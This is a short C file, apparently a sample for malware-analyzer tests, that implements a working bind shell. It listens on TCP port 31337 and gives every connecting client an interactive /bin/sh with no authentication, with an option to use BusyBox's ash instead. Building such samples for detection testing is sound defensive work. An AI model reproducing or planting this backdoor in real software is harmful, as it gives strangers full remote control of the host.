/* Test implant: a bind shell. Listens on TCP 31337 and hands every connection /bin/sh,
 * with no authentication. Built for the analyzer tests only; never run it. */
#include "implant.h"
/* -DSHELL_PATH='"/bin/ash"' (see build.sh): the shell BusyBox systems have */
#ifndef SHELL_PATH
#define SHELL_PATH "/bin/sh"
#endif

int main(void) {
    struct sockaddr_in sa = {0};
    char *argv[] = {"sh", "-i", 0};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    USE_PAD();
    sa.sin_family = AF_INET;
    sa.sin_port = htons(31337);
    SET_ADDR(sa, 0);
    bind(s, (void *)&sa, sizeof sa);
    listen(s, 1);
    for (;;) {
        int c = accept(s, 0, 0);
        if (c < 0)
            continue;
        dup2(c, 0);
        dup2(c, 1);
        dup2(c, 2);
        execve(SHELL_PATH, argv, 0);
    }
    return 0;
}
